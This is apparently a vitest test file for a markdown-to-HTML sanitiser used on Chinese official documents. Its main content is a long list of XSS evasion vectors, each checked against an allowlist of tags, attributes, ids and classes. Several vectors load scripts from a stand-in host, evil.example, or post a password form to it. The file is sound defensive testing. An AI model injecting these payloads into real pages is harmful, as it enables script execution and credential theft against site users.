import { describe, expect, test } from 'vitest';
import { renderBody } from '#markdown/render.ts';
import { urlKind } from '#markdown/safe-url.ts';
import { elementsIn } from './read-html.ts';

// Written for this project after the classes of the OWASP filter-evasion sheet and of H5SC.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  "<img src='x' onload='alert(1)'>",
  '<img src="javascript:alert(1)">',
  '<img srcset="//evil.example/x 1x" src=a.png>',
  '<img src=a.png longdesc="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<video poster="javascript:alert(1)"></video>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action="https://evil.example/"><input name=password type=password><button>提交</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<keygen onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/a" onclick="alert(1)" target="_blank" ping="//evil.example">x</a>',
  '<a href="/a" id="location" name="cookie" class="external">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<area href="javascript:alert(1)" shape=rect>',
  '<p id="location">x</p><p id="cookie">y</p><img name="body" src=a.png>',
  '<form id="document"></form>',
  '<div class="signature" role="alert" tabindex="0" aria-label="x">x</div>',
  '<h2 class="issued-title" id="issued">x</h2>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<title><script>alert(1)</script></title>',
  '<plaintext><script>alert(1)</script>',
  '<listing><img src=x onerror=alert(1)></listing>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<table><td><script>alert(1)</script></table>',
  '<!--><script>alert(1)</script-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<slot onslotchange=alert(1)></slot>',
  '<portal src="https://evil.example/"></portal>',
  '<dialog open>x</dialog>',
  '<p contenteditable onblur=alert(1)>x</p>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<p lang="zh" dir="rtl" accesskey="x" draggable=true>x</p>',
  '<font color=red size=7 face="x" onclick=alert(1)>x</font>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<cite data-n="0" onclick=alert(1)>x</cite>',
  '<q cite="javascript:alert(1)">x</q>',
  '<del cite="javascript:alert(1)">x</del>',
  '<ruby><rt><script>alert(1)</script></rt></ruby>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java%09script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x](https://a.example/ "\\" onmouseover=alert(1) x=\\"")',
  '![x](javascript:alert(1))',
  '![x](x "\\" onerror=alert(1) x=\\"")',
  '![x" onerror="alert(1)](x)',
  '![x](https://tracker.example/1.gif)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '[^<script>]: x\n\n[^<script>]',
  '[^location]: x\n\n[^location]',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>',
  '一、<img src=x onerror=alert(1)>',
  '第一条　<script>alert(1)</script>正文。',
  '**<script>alert(1)</script>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '附件：<iframe src=//evil.example>',
  '<div>\n\n一、甲\n\n<script>alert(1)</script>\n\n</div>',
  '<a href="/a"><a href="javascript:alert(1)">x</a></a>',
  '<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>',
];

const TAGS = new Set(
  'a b blockquote br caption cite code col colgroup dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var'.split(
    ' ',
  ),
);
const ATTRIBUTES =
  /^(?:href|src|alt|title|id|className|rel|start|value|reversed|type|colSpan|rowSpan|span|headers|scope|abbr|width|height|dir|lang|open|dateTime|role|tabIndex|ariaLabel|ariaDescribedBy|dataFootnoteRef|dataFootnoteBackref|dataFootnotes|dataN)$/;
const IDS = /^(?:h|ch|s|art|part|book|annex|issued|notice|fn|fnref|footnote-label)(?:-|$)/;
const CLASSES = new Set(
  'addressees align-center align-left align-right annex-heading article article-number attachments-note contains-task-list doc-number external footnotes footnotes-title issued-title note run-in signatory signature signature-date table-scroll task-list-item'.split(
    ' ',
  ),
);

/** What stands in a page that must not. */
function dangersIn(html: string): string[] {
  return elementsIn(html).flatMap(({ tagName, properties }) => [
    ...(TAGS.has(tagName) ? [] : [`<${tagName}>`]),
    ...Object.keys(properties).filter((name) => !ATTRIBUTES.test(name)),
    ...[properties['className']]
      .flat()
      .flatMap((name) =>
        name === undefined || CLASSES.has(String(name)) ? [] : [`class ${name}`],
      ),
    ...(properties['id'] === undefined || IDS.test(String(properties['id']))
      ? []
      : [`id ${properties['id']}`]),
    ...(tagName === 'a' && properties['href'] !== undefined && !urlKind(String(properties['href']))
      ? [`href ${properties['href']}`]
      : []),
    ...(tagName === 'img' && urlKind(String(properties['src'])) !== 'local'
      ? [`src ${properties['src']}`]
      : []),
  ]);
}

describe('nothing dangerous reaches the page', () => {
  test.each(VECTORS)('%s', (vector) => {
    expect(dangersIn(renderBody(vector).html)).toEqual([]);
  });

  test.each([
    ['in a paragraph', (vector: string) => `正文${vector}正文。`],
    ['in a list', (vector: string) => `- 项 ${vector}`],
    ['in a quotation', (vector: string) => `> ${vector}`],
    ['in a table', (vector: string) => `| 甲 |\n|---|\n| ${vector.replace(/\n/g, ' ')} |`],
    ['in a heading', (vector: string) => `一、${vector.replace(/\n/g, ' ')}\n\n文。`],
    ['in an article', (vector: string) => `第一条　${vector}`],
    ['in a signature', (vector: string) => `文。\n\n${vector.replace(/\n/g, ' ')}\n\n2024年3月5日`],
    ['in HTML', (vector: string) => `<div><table><tr><td>${vector}</td></tr></table></div>`],
    ['after an open tag', (vector: string) => `<b><a href="/a"><table>\n\n${vector}`],
  ])('%s either', (_where, place) => {
    const dangers = VECTORS.flatMap((vector) => dangersIn(renderBody(place(vector)).html));
    expect(dangers).toEqual([]);
  });

  test('and what comes out is the same when it goes through again', () => {
    for (const vector of VECTORS) {
      const { html } = renderBody(vector);
      expect(dangersIn(renderBody(html).html)).toEqual([]);
    }
  });
});

describe('names that an editor gives', () => {
  test.each([
    '<p id="h-1" class="signature">x</p>',
    '<section class="article" id="art-5"><p>x</p></section>',
    '<h2 class="issued-title" id="issued">x</h2>',
    '<a class="external" rel="opener" href="/a">x</a>',
  ])('%s are not ours, though they look like it', (html) => {
    expect(renderBody(`前言。\n\n${html}`).html).not.toMatch(/ (?:id|class|rel)="(?!s-1)/);
  });

  test('our anchors have no prefix', () => {
    expect(renderBody('一、甲\n\n文。').html).toContain('<h2 id="h-1">');
  });
});

describe('what is taken away is reported', () => {
  test.each([
    ['<script>alert(1)</script>', 'script'],
    ['<style>p{}</style>', 'style'],
    ['<iframe src="https://v.example"></iframe>', 'iframe'],
    ['<video src="a.mp4"></video>', 'video'],
    ['<svg></svg>', 'svg'],
  ])('%s', (html, tag) => {
    const { messages } = renderBody(`正文。\n\n${html}`);
    expect(messages).toMatchObject([{ rule: 'html/removed', severity: 'warning', line: 3 }]);
    expect(messages[0]?.message).toContain(`<${tag}>`);
  });

  test('once for every name', () => {
    expect(renderBody('<script>1</script>\n\n<script>2</script>\n').messages).toHaveLength(1);
  });

  test('what only formats goes without a word and leaves its text', () => {
    const { html, messages } = renderBody('<center><font color="red">红头</font></center>');
    expect(html).toBe('<p>红头</p>');
    expect(messages).toEqual([]);
  });
});

test('half a tag in a text is text', () => {
  expect(renderBody('a<b，c>d，<阜新市法治政府建设实施方案>').html).toBe(
    '<p>a&#x3C;b，c>d，&#x3C;阜新市法治政府建设实施方案></p>',
  );
});
